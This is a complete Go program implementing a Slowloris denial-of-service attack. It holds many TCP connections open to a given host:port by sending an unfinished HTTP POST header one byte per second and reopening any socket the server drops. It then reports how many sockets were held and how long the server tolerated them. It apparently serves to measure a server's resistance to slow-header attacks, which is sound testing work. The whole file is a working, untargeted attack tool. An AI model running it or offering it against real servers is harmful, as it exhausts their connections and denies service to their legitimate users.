// Slowloris holds sockets to a server open whose requests never end: headers that come a
// letter a second, and a new socket for each that is hung up on. It is a process of its
// own, of low priority, so that what it takes is not taken for the server's.
//
//	slowloris host:port sockets
//
// It prints "open" when all sockets are, and once its input ends how many there were on
// average ("Held"), how many were hung up on ("HungUp") and how long those were borne
// with on average ("Borne", in ns), as JSON.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

const (
	letters  = time.Second     // between two of one socket
	lifetime = 2 * time.Second // after which they are expected to be hung up on
)

type siege struct {
	addr                string
	open, hungUp, borne atomic.Int64
}

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: slowloris host:port sockets")
		os.Exit(2)
	}
	sockets, err := strconv.Atoi(os.Args[2])
	if err == nil {
		err = syscall.Setpriority(syscall.PRIO_PROCESS, 0, 5)
	}
	if err == nil {
		err = run(&siege{addr: os.Args[1]}, int64(sockets))
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(s *siege, sockets int64) error {
	ctx, cancel := context.WithCancel(context.Background())
	var all sync.WaitGroup
	pace := time.NewTicker(lifetime / time.Duration(sockets)) // one after the other: so they are hung up on, too
	for range sockets {
		<-pace.C
		all.Go(func() { s.hold(ctx) })
	}
	pace.Stop()
	for s.open.Load() < sockets*9/10 { // some are always between two sockets
		time.Sleep(time.Millisecond)
	}
	fmt.Println("open")
	held := s.watch(untilInputEnds())
	cancel()
	hungUp, borne := s.hungUp.Load(), time.Duration(0)
	if hungUp > 0 {
		borne = time.Duration(s.borne.Load() / hungUp)
	}
	all.Wait()
	return json.NewEncoder(os.Stdout).Encode(struct {
		Held, HungUp int64
		Borne        time.Duration
	}{held, hungUp, borne})
}

func untilInputEnds() <-chan struct{} {
	ended := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin)
		close(ended)
	}()
	return ended
}

// watch answers how many sockets were open on average, until done.
func (s *siege) watch(done <-chan struct{}) int64 {
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for sum, n := int64(0), int64(0); ; {
		sum += s.open.Load()
		n++
		select {
		case <-done:
			return sum / n
		case <-tick.C:
		}
	}
}

// hold holds one socket after the other.
func (s *siege) hold(ctx context.Context) {
	var d net.Dialer
	for ctx.Err() == nil {
		conn, err := d.DialContext(ctx, "tcp", s.addr)
		if err != nil {
			continue // it is not let in
		}
		s.open.Add(1)
		began := time.Now()
		if s.drip(ctx, conn) {
			s.hungUp.Add(1)
			s.borne.Add(int64(time.Since(began)))
		}
		s.open.Add(-1)
		_ = conn.Close()
	}
}

// drip begins a request and does not end it. It tells whether it was hung up on.
func (s *siege) drip(ctx context.Context, conn net.Conn) bool {
	defer context.AfterFunc(ctx, func() { _ = conn.SetReadDeadline(time.Now()) })()
	text := "POST /graphql HTTP/1.1\r\nHost: " + s.addr + "\r\nContent-Type: application/json\r\nX-Slow: "
	one := make([]byte, 1)
	for {
		_ = conn.SetReadDeadline(time.Now().Add(letters))
		if ctx.Err() != nil {
			return false
		}
		if _, err := io.WriteString(conn, text); err != nil {
			return true
		}
		text = "x"
		if _, err := conn.Read(one); !errors.Is(err, os.ErrDeadlineExceeded) {
			return true // an answer is a refusal
		}
	}
}
